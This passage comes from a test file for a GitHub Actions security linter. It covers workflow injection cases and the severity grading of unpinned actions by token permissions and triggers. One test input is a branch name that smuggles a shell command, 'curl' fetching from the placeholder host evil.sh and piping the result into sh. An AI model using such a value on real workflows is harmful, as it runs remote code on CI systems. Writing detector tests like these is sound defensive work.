      { name: "an API object's id, read by name, from an explicitly JSON result", code: findIssueThen(FILTER_BY_TITLE, "fromJSON(steps.find.outputs.result)[0]['id']", '          result-encoding: json\n') },
      {
        name: "workflow_run filtered to plain branch names: the run's head_branch is one of them",
        code: deleteRunBranch('    branches:\n      - update/main\n      - update/release-8.x\n')
      },
      { name: 'workflow_run filtered to one plain branch name written as a scalar', code: deleteRunBranch('    branches: main\n') },
      ...["'/kind (\\w+)'", "'(?<!> )\\/kind ([a-z0-9_-]+)'", "'(?:^|\\s)#(?<id>\\d{1,6})\\b'"].map((regex) => ({
        name: `a regex-match capture that only word characters fill: ${regex}`,
        code: regexMatchOf(regex)
      }))
    ],
    invalid: [
      { code: push(job('t', '      - run: echo "${{ github.event.comment.body }}"\n'), 'issue_comment'), errors: [{ line: 10, severity: 'critical' }] },
      ...[
        ["'/kind (.+)'", 'any character'],
        ["'/kind ([^ ]+)'", 'a negated class'],
        ["'/kind ([0-z]+)'", 'a range running from digits to letters, through quotes and the backtick'],
        ["'/kind (\\S+)'", '\\S'],
        ["'/kind ([\\--z]+)'", 'a range opened by an escaped character, through quotes and the backtick'],
        ["'/kind ([\\.-z]+)'", 'a range from an escaped dot'],
        ["'/kind (\\w+)'", 'flags from an expression', '          flags: ${{ github.event.pull_request.title }}\n'],
        ["'(\\w+) (.*)'", 'the second group, of any character', '', 'group2']
      ].map(([regex, why, extra = '', output = 'group1']) => ({ name: `a regex-match capture of ${why}`, code: regexMatchOf(regex!, extra, output), errors: [{ line: extra ? 17 : 16, severity: 'critical' as const }] })),
      ...[
        ['no branch filter', ''],
        ['a glob pattern among the names', "    branches: [update/main, 'update/**']\n"],
        ['a literal name preceded by an exclusion', "    branches: [main, '!main']\n"],
        ['an escaped glob character', "    branches: ['release\\+1']\n"],
        ['branches-ignore', '    branches-ignore: [main]\n'],
        ['a listed name holding shell syntax', "    branches: ['x$(curl${IFS}evil.sh|sh)']\n"]
      ].map(([name, filter]) => {
        const code = deleteRunBranch(filter)
        return {
          name: `workflow_run head_branch with ${name}`,
          code,
          errors: [
            { line: lineOf(code, 'git push origin'), severity: 'critical' as const, message: /head_branch/ },
            { line: lineOf(code, 'deleteRef'), severity: 'critical' as const }
          ]
        }
      }),
      { name: 'the whole event of an issue_comment run in a script', code: push(job('t', WHOLE_EVENT_RUN), 'issue_comment'), errors: [{ line: 10, severity: 'critical' }] },
      { name: "a github-script result's text field, when the step was given the title", code: findIssueThen(FILTER_BY_TITLE, 'fromJSON(steps.find.outputs.result)[0].title'), errors: [{ line: 20, severity: 'critical' }] },
      { name: 'a github-script result read whole, when the step was given the title', code: findIssueThen(FILTER_BY_TITLE, 'steps.find.outputs.result'), errors: [{ line: 20, severity: 'critical' }] },
      { name: 'a script returning the title under `number`', code: findIssueThen('return [{ number: process.env.TITLE }]', 'fromJSON(steps.find.outputs.result)[0].number'), errors: [{ line: 20, severity: 'critical' }] },
      { name: 'a script assigning the title to `number`', code: findIssueThen('const o = {}; o.number = process.env.TITLE; return o', 'fromJSON(steps.find.outputs.result).number'), errors: [{ line: 20, severity: 'critical' }] },
      {
        name: 'a script building an object from the text it was given (an issue form parsed into fields)',
        code: findIssueThen("const s = process.env.TITLE.split('### ').slice(1); return Object.fromEntries(s.map((x) => x.split(' ')))", 'fromJSON(steps.find.outputs.result).id'),
        errors: [{ line: 20, severity: 'critical' }]
      },
      {
        name: 'a script mapping API results into objects of its own',
        code: findIssueThen('const issues = await github.paginate(github.rest.issues.listForRepo, context.repo); return issues.map((i) => ({ [i.title]: process.env.TITLE }))', 'fromJSON(steps.find.outputs.result)[0].id'),
        errors: [{ line: 20, severity: 'critical' }]
      },
      {
        name: 'an API result variable assigned again before it is returned',
        code: findIssueThen('let issues = await github.paginate(github.rest.issues.listForRepo, context.repo); issues = [{ id: process.env.TITLE }]; return issues', 'fromJSON(steps.find.outputs.result)[0].id'),
        errors: [{ line: 20, severity: 'critical' }]
      },
      ...[
        ['a map on the line after the return', 'const issues = await github.paginate(github.rest.issues.listForRepo, context.repo)\n            return issues\n              .map((i) => ({ [process.env.TITLE]: 1 }))'],
        ['an object pushed into the API list', 'const issues = await github.paginate(github.rest.issues.listForRepo, context.repo); issues.unshift({ id: 1, ...JSON }); return issues'],
        ['fields assigned into the API objects inside a filter', 'const issues = await github.paginate(github.rest.issues.listForRepo, context.repo); const f = { x: process.env.TITLE }; return issues.filter((i) => Object.assign(i, f))'],
        ['a computed key written into an API object', 'const issues = await github.paginate(github.rest.issues.listForRepo, context.repo); const [k, v] = process.env.TITLE.split("="); issues[0][k] = v; return issues']
      ].map(([name, script]) => ({
        name: `a script that can write the field: ${name}`,
        code: findIssueThen(script, 'fromJSON(steps.find.outputs.result)[0].id'),
        // The expanding step's line moves down with each further line of the script.
        errors: [{ line: 20 + script.split('\n').length - 1, severity: 'critical' as const }]
      })),
      { name: 'a script parsing the title as JSON', code: findIssueThen('return JSON.parse(process.env.TITLE)', 'fromJSON(steps.find.outputs.result).number'), errors: [{ line: 20, severity: 'critical' }] },
      {
        name: 'a string result (the text returned, which fromJSON parses)',
        code: findIssueThen('return process.env.TITLE', 'fromJSON(steps.find.outputs.result).number', '          result-encoding: string\n'),
        errors: [{ line: 21, severity: 'critical' }]
      },
      {
        name: 'the whole event of an issue_comment run inside a JavaScript string of github-script',
        code: push(job('t', `      - uses: actions/github-script@${SHA}\n        with:\n          script: |\n            const raw = '${'$'}{{ toJSON(github.event) }}'\n`), 'issue_comment'),
        errors: [{ line: 13, severity: 'critical' }]
      },
      {
        name: 'a release tag from the whole event, in a release workflow also run on pull_request_target',
        code: push(RELEASE_TAG_JOB, '[release, pull_request_target]'),
        errors: [{ line: 19, severity: 'critical', message: /`steps\.rel\.outputs\.tag` \(derived from `github\.event`\)/ }]
      },
      {
        name: 'an issue title passed to a reusable workflow that expands it',
        files: { [IMAGE]: reusableImage(), [IMAGES]: callsImage('${{ github.event.issue.title }}', 'issues') },
        errors: [
          {
            path: IMAGE,
            line: 15,
            severity: 'critical',
            message: /expands `inputs\.name` \(`github\.event\.issue\.title`, passed by job `image` of `\.github\/workflows\/images\.yml`\) into code called from a privileged workflow;/
          }
        ]
      },
      {
        name: 'the same PR title passed by a pull_request caller and by a pull_request_target one',
        files: {
          [IMAGE]: reusableImage(),
          '.github/workflows/a-pr.yml': callsImage('${{ github.event.pull_request.title }}', 'pull_request'),
          '.github/workflows/b-target.yml': callsImage('${{ github.event.pull_request.title }}', 'pull_request_target')
        },
        errors: [{ path: IMAGE, line: 15, severity: 'critical', message: /passed by job `image` of `\.github\/workflows\/b-target\.yml`\) into code called from a privileged workflow;/ }]
      },
      {
        name: 'a pull_request_target caller leaves out an input defaulting to the head branch',
        files: { [IMAGE]: reusableImageDefaultHead(), [IMAGES]: callsImageWithout('pull_request_target') },
        errors: [{ path: IMAGE, line: 15, severity: 'critical', message: /its default `github\.head_ref`, where job `image`/ }]
      }
    ]
  },
  'workflow/unpinned-action': {
    valid: [
      { code: push(job('b', `      - uses: docker/login-action@${SHA} # v3\n      - uses: ./.github/actions/local\n`)) },
      { name: 'action in a parent folder of this repository', code: push(job('b', '      - uses: ../shared/actions/setup\n')) },
      {
        name: "the self-repository reference ($/): this repository's action and reusable workflow at the running commit",
        code: push(job('b', '      - uses: $/.github/actions/setup\n        with:\n          token: ${{ secrets.DEPLOY_TOKEN }}\n') + '  call:\n    uses: $/.github/workflows/build.yml\n    secrets: inherit\n', 'workflow_run')
      },
      { name: 'reusable workflow pinned', code: push(`  call:\n    uses: other-org/wf/.github/workflows/build.yml@${SHA}\n`) },
      { name: 'read-only job with no secret (the medium form)', code: push(job('b', '      - uses: docker/login-action@v3\n')) },
      { name: 'read-only job passing its own read-only GITHUB_TOKEN (the medium form)', code: push(job('b', '      - uses: someone/labeler@v2\n        with:\n          token: ${{ secrets.GITHUB_TOKEN }}\n')) }
    ],
    invalid: [
      {
        name: 'job using a secret',
        code: push(job('b', '      - uses: docker/login-action@v3\n        with:\n          password: ${{ secrets.REGISTRY_TOKEN }}\n')),
        errors: [{ line: 10, severity: 'high' }]
      },
      {
        name: 'a read-only job of a workflow_run workflow (privileged: it may act on a pull request run\'s output): high, never the low read-only form',
        code: push(job('b', '      - uses: someone/tool@v1\n'), 'workflow_run'),
        errors: [{ line: 10, severity: 'high' }]
      },
      {
        name: 'an OIDC token (id-token: write) on pull_request only: high, never the low read-only form',
        code: push(job('b', '      - uses: someone/tool@v1\n', '    permissions:\n      contents: read\n      id-token: write\n'), 'pull_request'),
        errors: [{ line: 13, severity: 'high' }]
      },
      {
        name: 'no permissions block on push, no secret: the repository default token, at medium',
        code: 'name: ci\non: push\njobs:\n' + job('b', '      - uses: someone/tool@abc1234\n      - uses: someone/tool\n'),
        errors: [
          { line: 8, severity: 'medium', message: /not a full commit SHA\. Medium: the job holds no secret and sets no `permissions:`, and the workflow runs only on push, pull_request, the merge queue, a manual run or a schedule, so its token is the repository default/ },
          { line: 9, severity: 'medium' }
        ]
      },
      {
        name: 'no permissions block on push, a Codecov upload token handed only to its action: medium, saying so',
        code: 'name: ci\non: push\njobs:\n' + job('b', '      - uses: someone/tool@v1\n      - uses: codecov/codecov-action@v5\n        with:\n          token: ${{ secrets.CODECOV_TOKEN }}\n'),
        errors: [
          { line: 8, severity: 'medium', message: /repository default .*\(it hands an upload token only to `codecov\/codecov-action`, which can only add reports with it\)\.$/ },
          { line: 9, severity: 'medium' }
        ]
      },
      {
        name: 'no permissions block, pull requests and the merge queue (queued by those who may merge): medium',
        code: 'name: ci\non:\n  pull_request:\n  merge_group:\njobs:\n' + job('b', '      - uses: someone/tool@v1\n'),
        errors: [{ line: 10, severity: 'medium', message: /runs only on push, pull_request, the merge queue, a manual run or a schedule/ }]
      },
      { name: 'no permissions block, push and manual runs (only writers start either): medium', code: 'name: ci\non: [push, workflow_dispatch]\njobs:\n' + job('b', '      - uses: someone/tool@v1\n'), errors: [{ line: 8, severity: 'medium' }] },
      { name: 'no permissions block, also run on release', code: 'name: ci\non: [push, release]\njobs:\n' + job('b', '      - uses: someone/tool@v1\n'), errors: [{ line: 8, severity: 'high', message: /not a full commit SHA\.$/ }] },
      { name: 'no permissions block, on a schedule: medium', code: 'name: ci\non: [push, schedule]\njobs:\n' + job('b', '      - uses: someone/tool@v1\n'), errors: [{ line: 8, severity: 'medium' }] },
      { name: 'no permissions block, the job token passed to a step (the same repository default token): medium', code: 'name: ci\non: pull_request\njobs:\n' + job('b', '      - uses: someone/tool@v1\n        with:\n          token: ${{ github.token }}\n'), errors: [{ line: 8, severity: 'medium' }] },
      { name: 'no permissions block, a secret in the job', code: 'name: ci\non: pull_request\njobs:\n' + job('b', '      - uses: someone/tool@v1\n      - run: ./upload.sh\n        env:\n          KEY: ${{ secrets.UPLOAD_KEY }}\n'), errors: [{ line: 8, severity: 'high' }] },
      {
        name: 'no permissions block, a scheduled lock-threads job handed the job token: it works only with a writing default token, so high',
        code: 'name: lock\non:\n  schedule:\n    - cron: "50 1 * * *"\njobs:\n' + job('lock', '      - uses: dessant/lock-threads@v5\n        with:\n          github-token: ${{ secrets.GITHUB_TOKEN }}\n          issue-inactive-days: "30"\n'),
        errors: [{ line: 10, severity: 'high', message: /not a full commit SHA\. High, though the job holds no secret: the job sets no `permissions:` and its step `dessant\/lock-threads` needs a token that writes, so the job works only where the repository default token writes/ }]
      },
      {
        name: 'no permissions block, a later step runs git push: high',
        code: 'name: ci\non: push\njobs:\n' + job('b', '      - uses: someone/formatter@v1\n      - run: |\n          git commit -am "format"\n          if ! git push origin HEAD; then echo failed; fi\n'),
        errors: [{ line: 8, severity: 'high', message: /its step `git push` needs a token that writes/ }]
      },
      {
        name: 'no permissions block, gh pr comment on pull_request: high',
        code: 'name: ci\non: pull_request\njobs:\n' + job('b', '      - uses: someone/size-check@v2\n      - run: gh pr comment "$PR" --body-file report.md\n        env:\n          GH_TOKEN: ${{ github.token }}\n'),
        errors: [{ line: 8, severity: 'high', message: /its step `gh pr comment` needs a token that writes/ }]
      },
      {
        name: 'lock-threads under a permissions block writing only issues: the written limit decides (medium)',
        code: 'name: lock\non: schedule\npermissions:\n  issues: write\njobs:\n' + job('lock', '      - uses: dessant/lock-threads@v5\n'),
        errors: [{ line: 10, severity: 'medium' }]
      },
      {
        name: 'no permissions block, git push only printed: medium',
        code: 'name: ci\non: push\njobs:\n' + job('b', '      - uses: someone/formatter@v1\n      - run: echo "run git push yourself"\n'),
        errors: [{ line: 8, severity: 'medium' }]
      },
      { name: 'job granted a write scope', code: push(job('b', '      - uses: someone/tool@v1\n', '    permissions:\n      contents: write\n')), errors: [{ line: 12 }] },
      {
        name: 'a token that writes only code-scanning alerts, no secret, push only: medium',
        code: push(job('b', '      - uses: someone/scanner@v1\n', '    permissions:\n      contents: read\n      security-events: write\n')),
        errors: [{ line: 13, severity: 'medium', message: /writes nothing but code-scanning alerts/ }]
      },
      {
        name: 'code-scanning alerts and a status write: a moved tag could set a commit status, nothing more: medium',
        code: push(job('b', '      - uses: someone/scanner@v1\n', '    permissions:\n      security-events: write\n      statuses: write\n')),
        errors: [{ line: 13, severity: 'medium', message: /writes nothing but code-scanning alerts \(`security-events: write`\) and commit statuses \(`statuses: write`: a moved tag could still set a commit status\)\.$/ }]
      },
      {
        name: 'pull_request_target title check whose token writes only commit statuses, no checkout, the job token handed to the step: medium',
        code:
          'name: title\non: pull_request_target\npermissions:\n  pull-requests: read\n  statuses: write\njobs:\n' +
          job('lint', '      - uses: someone/title-lint@v3\n        env:\n          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n'),
        errors: [{ line: 11, severity: 'medium', message: /in its `pull_request_target` workflow, and its token writes nothing but commit statuses \(`statuses: write`: a moved tag could still set a commit status\)/ }]
      },
      {
        name: 'a status write beside a check-run write: high',
        code: push(job('b', '      - uses: someone/reporter@v1\n', '    permissions:\n      statuses: write\n      checks: write\n')),
        errors: [{ line: 13, severity: 'high' }]
      },
      {
        name: 'a status write on pull_request_target in a job checking out the head: high',
        code: push(job('b', `      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - uses: someone/tool@v1\n`, '    permissions:\n      statuses: write\n'), 'pull_request_target'),
        errors: [{ line: 15, severity: 'high', message: /not a full commit SHA\.$/ }]
      },
      {
        name: 'a status write, but the job reads a secret: high',
        code: push(job('b', '      - uses: someone/reporter@v1\n        with:\n          key: ${{ secrets.REPORT_KEY }}\n', '    permissions:\n      statuses: write\n')),
        errors: [{ line: 12, severity: 'high' }]
      },
      {
        name: 'code-scanning alerts only, but the job reads a secret',
        code: push(job('b', '      - uses: someone/scanner@v1\n        with:\n          key: ${{ secrets.SCANNER_KEY }}\n', '    permissions:\n      security-events: write\n')),
        errors: [{ line: 12, severity: 'high' }]
      },
      {
        name: 'code-scanning alerts only, but also on release',
        code: push(job('b', '      - uses: someone/scanner@v1\n', '    permissions:\n      security-events: write\n'), '[push, release]'),
        errors: [{ line: 12, severity: 'high' }]
      },
      {
        name: 'pull_request_target, no permissions, only the job token handed to the step, no checkout of the head: medium',
        code: 'name: pr\non: pull_request_target\njobs:\n' + job('title', '      - uses: someone/pr-title-check@v2\n        env:\n          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n'),
        errors: [{ line: 8, severity: 'medium', message: /Medium: the job holds no secret, sets no `permissions:` and checks out no pull request code, so on `pull_request_target` too/ }]
      },
      {
        name: 'pull_request_target, no permissions, a later step handed the job token adds labels: it works only with a writing default token, so high',
        code: 'name: pr\non: pull_request_target\njobs:\n' + job('community', `      - uses: someone/run-python@v1\n        with:\n          script: print(1)\n      - uses: andymckay/labeler@${SHA}\n        with:\n          add-labels: "community"\n          repo-token: \${{ secrets.GITHUB_TOKEN }}\n`),
        errors: [{ line: 8, severity: 'high', message: /High, though the job holds no secret: the job sets no `permissions:` and its step `andymckay\/labeler` \(its `add-labels:` input, given the job token\) needs a token that writes/ }]
      },
      {
        name: 'no permissions, a commenting action handed github.token with a body: high',
        code: 'name: ci\non: pull_request\njobs:\n' + job('b', `      - uses: someone/size-check@v2\n      - uses: someone/sticky-comment@${SHA}\n        with:\n          body: size report\n          github-token: \${{ github.token }}\n`),
        errors: [{ line: 8, severity: 'high', message: /its step `someone\/sticky-comment` \(its `body:` input, given the job token\)/ }]
      },
      {
        name: 'no permissions, an action handed the job token with create-release: true: high',
        code: 'name: ci\non: push\njobs:\n' + job('b', `      - uses: someone/builder@v2\n      - uses: someone/bump@${SHA}\n        with:\n          create-release: true\n          token: \${{ secrets.GITHUB_TOKEN }}\n`),
        errors: [{ line: 8, severity: 'high', message: /`create-release:` input/ }]
      },
      {
        name: 'pull_request_target, no permissions, a labels action given labels and no token input: it takes the job token by default, so high',
        code: 'name: pr\non: pull_request_target\njobs:\n' + job('add_labels', `      - uses: someone/regex-match@v2\n      - uses: actions-ecosystem/action-add-labels@v1\n        with:\n          labels: kind/\${{ steps.regex-match.outputs.group1 }}\n`),
        errors: [
          { line: 8, severity: 'high', message: /its step `actions-ecosystem\/action-add-labels` \(its `labels:` input, with no token input, so it takes the job token by default\) needs a token that writes/ },
          { line: 9, severity: 'high' }
        ]
      },
      {
        name: 'pull_request_target, no permissions, labels given to an action not named for labels, no token input: medium',
        code: 'name: pr\non: pull_request_target\njobs:\n' + job('b', `      - uses: someone/size-check@v2\n      - uses: someone/issue-finder@${SHA}\n        with:\n          labels: bug\n`),
        errors: [{ line: 8, severity: 'medium' }]
      },
      {
        name: 'pull_request_target, no permissions, an action named for requiring labels given labels and no token: it only checks them, medium',
        code: 'name: pr\non: pull_request_target\njobs:\n' + job('check', `      - uses: someone/size-check@v2\n      - uses: mheap/github-action-required-labels@v5\n        with:\n          mode: exactly\n          count: 1\n          labels: "semver:patch, semver:minor"\n`),
        errors: [
          { line: 8, severity: 'medium' },
          { line: 9, severity: 'medium', message: /Medium: the job holds no secret, sets no `permissions:`/ }
        ]
      },
      {
        name: 'no permissions, a label-verifying action handed the job token with labels: it only reads them, medium',
        code: 'name: ci\non: pull_request\njobs:\n' + job('b', `      - uses: someone/size-check@v2\n      - uses: someone/verify-pr-label-action@${SHA}\n        with:\n          labels: bug\n          github-token: \${{ github.token }}\n`),
        errors: [{ line: 8, severity: 'medium' }]
      },
      ...[
        ['someone/auto-label@v1', 'labels', 'bug'],
        ['someone/pr-labels-action@v1', 'labels', 'bug'],
        ['someone/check-and-add-labels@v1', 'labels', 'bug'],
        ['edumserrano/find-create-or-update-comment@v1', 'body', 'Thanks'],
        ['exercism/pr-commenter-action@v1', 'body', 'Thanks']
      ].map(([uses, key, value]) => ({
        name: `pull_request_target, no permissions, ${uses} given ${key} and no token: named for writing them (a checking word beside a writing one too), high`,
        code: 'name: pr\non: pull_request_target\njobs:\n' + job('b', `      - uses: someone/size-check@v2\n      - uses: ${uses}\n        with:\n          ${key}: ${value}\n`),
        errors: [{ line: 8, severity: 'high' as const }, { line: 9, severity: 'high' as const }]
      })),
      {
        name: 'pull_request_target, no permissions, a labels-manager action given labels and no token: it writes them with the job token, high',
        code: 'name: pr\non: pull_request_target\njobs:\n' + job('b', `      - uses: someone/size-check@v2\n      - uses: someone/labels-manager@v1\n        with:\n          labels: bug\n`),
        errors: [
          { line: 8, severity: 'high', message: /its step `someone\/labels-manager` \(its `labels:` input, with no token input/ },
          { line: 9, severity: 'high' }
        ]
      },
      {
        name: 'no permissions, labels given to an action not named for labels (a filter, say), with the job token: medium',
        code: 'name: ci\non: pull_request\njobs:\n' + job('b', `      - uses: someone/size-check@v2\n      - uses: someone/issue-finder@${SHA}\n        with:\n          labels: bug\n          token: \${{ github.token }}\n`),
        errors: [{ line: 8, severity: 'medium' }]
      },
      {
        name: 'no permissions, create-release: false with the job token: medium',
        code: 'name: ci\non: push\njobs:\n' + job('b', `      - uses: someone/builder@v2\n      - uses: someone/bump@${SHA}\n        with:\n          create-release: false\n          token: \${{ secrets.GITHUB_TOKEN }}\n`),
        errors: [{ line: 8, severity: 'medium' }]
      },
      {
        name: 'pull_request_target with a read-only token and a checkout of the base: medium',
        code: push(job('b', `      - uses: actions/checkout@${SHA}\n      - uses: someone/tool@v1\n`), 'pull_request_target'),
        errors: [{ line: 11, severity: 'medium', message: /its token is read-only, and it checks out no pull request code/ }]
      },
      {
        name: 'pull_request_target job checking out the head: high',
        code: push(job('b', `      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - uses: someone/tool@v1\n`), 'pull_request_target'),
        errors: [{ line: 13, severity: 'high', message: /not a full commit SHA\.$/ }]
      },
      {
        name: 'pull_request_target job reading a secret beyond its token: high',
        code: push(job('b', '      - uses: someone/tool@v1\n        with:\n          key: ${{ secrets.BOT_KEY }}\n'), 'pull_request_target'),
        errors: [{ line: 10, severity: 'high' }]
      },
      {
        name: 'pull_request_target with a write grant: high',
        code: push(job('b', '      - uses: someone/tool@v1\n', '    permissions:\n      contents: write\n'), 'pull_request_target'),
        errors: [{ line: 12, severity: 'high' }]
      },
      {
        name: 'pull_request_target beside issue_comment, read-only token, no checkout: medium',
        code: push(job('b', '      - uses: someone/tool@v1\n'), '[pull_request_target, issue_comment]'),
        errors: [{ line: 10, severity: 'medium', message: /its token is read-only, and it checks out no pull request code in its `pull_request_target` workflow/ }]
      },
      {
        name: 'closed issues answered by an action whose token writes only issues, the job token handed to it: medium',
        code: 'name: closed\non:\n  issues:\n    types: [closed]\npermissions:\n  issues: write\njobs:\n' + job('reply', '      - uses: someone/issue-reply@v2\n        with:\n          token: ${{ secrets.GITHUB_TOKEN }}\n'),
        errors: [{ line: 12, severity: 'medium', message: /Medium: the job holds no secret, the workflow runs only on push, pull_request, the merge queue, a manual run, a schedule or issue and discussion events \(which run the default branch's workflow, as a push does\), and its token writes nothing but issues \(`issues: write`: a moved tag could post or edit issues and their comments\)\.$/ }]
      },
      {
        name: 'issues and discussions written on push: medium',
        code: push(job('b', '      - uses: someone/triage@v1\n', '    permissions:\n      issues: write\n      discussions: write\n')),
        errors: [{ line: 13, severity: 'medium', message: /the workflow runs only on push, pull_request, the merge queue, a manual run or a schedule, and its token writes nothing but issues and discussions \(`issues: write`, `discussions: write`: a moved tag could post or edit issues and discussions and their comments\)/ }]
      },
      {
        name: 'a discussion trigger with a read-only token: medium',
        code: push(job('b', '      - uses: someone/welcome@v1\n'), 'discussion'),
        errors: [{ line: 10, severity: 'medium', message: /the workflow runs only on .* issue and discussion events .*, and its token is read-only\.$/ }]
      },
      {
        name: 'an issue bot with no permissions block (it can write only if the repository default grants write): high',
        code: 'name: triage\non: [issues, issue_comment]\njobs:\n' + job('b', '      - uses: someone/triage@v1\n        env:\n          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n'),
        errors: [{ line: 8, severity: 'high', message: /not a full commit SHA\.$/ }]
      },
      {
        name: 'issues written beside pull requests (a token that can approve them): high',
        code: push(job('b', '      - uses: someone/triage@v1\n', '    permissions:\n      issues: write\n      pull-requests: write\n'), 'issues'),
        errors: [{ line: 13, severity: 'high', message: /not a full commit SHA\.$/ }]
      },
      {
        name: 'issues written, but the job reads a secret: high',
        code: push(job('b', '      - uses: someone/triage@v1\n        with:\n          key: ${{ secrets.BOT_KEY }}\n', '    permissions:\n      issues: write\n'), 'issues'),
        errors: [{ line: 12, severity: 'high' }]
      },
      {
        name: 'issues written, but also on release: high',
        code: push(job('b', '      - uses: someone/triage@v1\n', '    permissions:\n      issues: write\n'), '[issues, release]'),
        errors: [{ line: 12, severity: 'high' }]
      },
      {
        name: 'an issue comment job writing only issues, no checkout: medium',
        code: push(job('b', '      - uses: someone/slash-reply@v1\n', '    permissions:\n      issues: write\n'), 'issue_comment'),
        errors: [{ line: 12, severity: 'medium', message: /the job holds no secret, checks out no pull request code on its comment trigger, the workflow runs only on/ }]
      },
      {
        name: 'an issue comment job checking out the pull request with gh: high',
        code: push(job('b', '      - run: gh pr checkout ${{ github.event.issue.number }}\n      - uses: someone/slash-reply@v1\n', '    permissions:\n      issues: write\n'), 'issue_comment'),
        errors: [{ line: 13, severity: 'high', message: /not a full commit SHA\.$/ }]
      },
      {
        name: 'an issue comment job checking out a ref looked up by an earlier step: high',
        code: push(job('b', `      - id: pr\n        run: ./head-of-pr.sh\n      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ steps.pr.outputs.sha }}\n      - uses: someone/slash-reply@v1\n`, '    permissions:\n      issues: write\n'), 'issue_comment'),
        errors: [{ line: 17, severity: 'high', message: /not a full commit SHA\.$/ }]
      },
      {
        name: 'a job beside one calling a restricted workflow keeps the repository default',
        files: { [CALLER]: bare(caller('acceptance') + job('b', '      - uses: someone/tool@v1\n')), [CALLED]: called(OIDC_READ) },
        errors: [{ line: 10, severity: 'medium', message: /so its token is the repository default/ }]
      },
      {
        name: 'a called scan workflow writing only code-scanning alerts, called only from a schedule and manual runs, no secret passed: medium',
        files: { [CALLED]: SCAN_CALLED, [CALLER]: callerOn('[schedule, workflow_dispatch]') },
        errors: [{ path: CALLED, line: SCANNER_LINE, severity: 'medium', message: /Medium: the job holds no secret, the workflow is called only by `\.github\/workflows\/ci\.yml`, which runs only on push, pull_request, the merge queue, a manual run or a schedule and passes it no secret, and its token writes nothing but code-scanning alerts/ }]
      },
      {
        name: 'the same, the caller naming this repository instead of a path: medium',
        repository: 'acme/app',
        files: { [CALLED]: SCAN_CALLED, [CALLER]: callerOn('[schedule, workflow_dispatch]', `acme/app/${CALLED}@main`) },
        errors: [{ path: CALLED, line: SCANNER_LINE, severity: 'medium' }]
      },
      {
        name: 'a caller naming another repository does not call this file: high',
        repository: 'acme/app',
        files: { [CALLED]: SCAN_CALLED, [CALLER]: callerOn('schedule', `other-org/app/${CALLED}@${SHA}`) },
        errors: [{ path: CALLED, line: SCANNER_LINE, severity: 'high', message: /not a full commit SHA\.$/ }]
      },
      { name: 'a called workflow with no caller in view: high', files: { [CALLED]: SCAN_CALLED }, errors: [{ path: CALLED, line: SCANNER_LINE, severity: 'high' }] },
      {
        name: 'a caller passing its secrets: high',
        files: { [CALLED]: SCAN_CALLED, [CALLER]: callerOn('schedule', `./${CALLED}`, '    secrets: inherit\n') },
        errors: [{ path: CALLED, line: SCANNER_LINE, severity: 'high' }]
      },
      {
        name: 'one caller on a schedule, another on release: high',
        files: { [CALLED]: SCAN_CALLED, [CALLER]: callerOn('schedule'), '.github/workflows/release.yml': callerOn('release') },
        errors: [{ path: CALLED, line: SCANNER_LINE, severity: 'high' }]
      },
      {
        name: 'a caller on pull_request_target: high',
        files: { [CALLED]: SCAN_CALLED, [CALLER]: callerOn('pull_request_target') },
        errors: [{ path: CALLED, line: SCANNER_LINE, severity: 'high' }]
      },
      {
        name: 'called through another called workflow whose only caller runs on push: medium',
        files: {
          [CALLED]: SCAN_CALLED,
          '.github/workflows/middle.yml': callerOn('workflow_call'),
          [CALLER]: callerOn('push', './.github/workflows/middle.yml')
        },
        errors: [{ path: CALLED, line: SCANNER_LINE, severity: 'medium', message: /called only by `\.github\/workflows\/middle\.yml`/ }]
      },
      {
        name: 'a called workflow setting no permissions is judged by its caller\'s grant (code-scanning alerts only): medium',
        files: { [CALLED]: called('', '', '      - uses: someone/scanner@v1\n'), [CALLER]: callerOn('schedule') },
        errors: [{ path: CALLED, line: lineOf(called('', '', '      - uses: someone/scanner@v1\n'), 'someone/scanner'), severity: 'medium', message: /and the token its caller grants writes nothing but code-scanning alerts \(`security-events: write`\)\.$/ }]
      },
      {
        name: 'a called workflow setting no permissions, its caller granting contents: write: high',
        files: { [CALLED]: called('', '', '      - uses: someone/scanner@v1\n'), [CALLER]: callerOn('push').replace('contents: read', 'contents: write') },
        errors: [{ path: CALLED, line: lineOf(called('', '', '      - uses: someone/scanner@v1\n'), 'someone/scanner'), severity: 'high', message: /not a full commit SHA\.$/ }]
      },
      {
        name: 'a called workflow setting no permissions, its calling job granting write beside a read-only caller workflow: high',
        files: {
          [CALLED]: called('', '', '      - uses: someone/scanner@v1\n'),
          [CALLER]: callerOn('push').replace('jobs:\n  scan:\n', 'jobs:\n  scan:\n    permissions:\n      contents: write\n')
        },
        errors: [{ path: CALLED, line: lineOf(called('', '', '      - uses: someone/scanner@v1\n'), 'someone/scanner'), severity: 'high', message: /not a full commit SHA\.$/ }]
      },
      {
        name: 'no permissions in the called workflow nor its push/pull_request caller: the repository default, medium as inline',
        files: { [CALLED]: called('', '', '      - uses: someone/nox@v1\n'), [CALLER]: 'name: ci\non: [push, pull_request]\njobs:\n' + caller('nox') },
        errors: [{ path: CALLED, line: lineOf(called('', '', '      - uses: someone/nox@v1\n'), 'someone/nox'), severity: 'medium', message: /Medium: the job holds no secret, the workflow is called only by `\.github\/workflows\/ci\.yml`, .* and neither the workflow nor its calling job \(nor that job's workflow\) set `permissions:`, so its token is the repository default/ }]
      },
      {
        name: 'the same, a step of the called job adding labels (it works only with a writing default token): high',
        files: { [CALLED]: called('', '', '      - uses: someone/nox@v1\n      - uses: actions/labeler@v5\n'), [CALLER]: 'name: ci\non: [push, pull_request]\njobs:\n' + caller('nox') },
        errors: [{ path: CALLED, line: lineOf(called('', '', '      - uses: someone/nox@v1\n'), 'someone/nox'), severity: 'high', message: /High, though the job holds no secret: the job sets no `permissions:` and its step `actions\/labeler`/ }]
      },
      {
        name: 'no permissions anywhere, but the caller passes secrets: high',
        files: { [CALLED]: called('', '', '      - uses: someone/nox@v1\n'), [CALLER]: 'name: ci\non: push\njobs:\n' + caller('nox') + '    secrets: inherit\n' },
        errors: [{ path: CALLED, line: lineOf(called('', '', '      - uses: someone/nox@v1\n'), 'someone/nox'), severity: 'high' }]
      },
      {
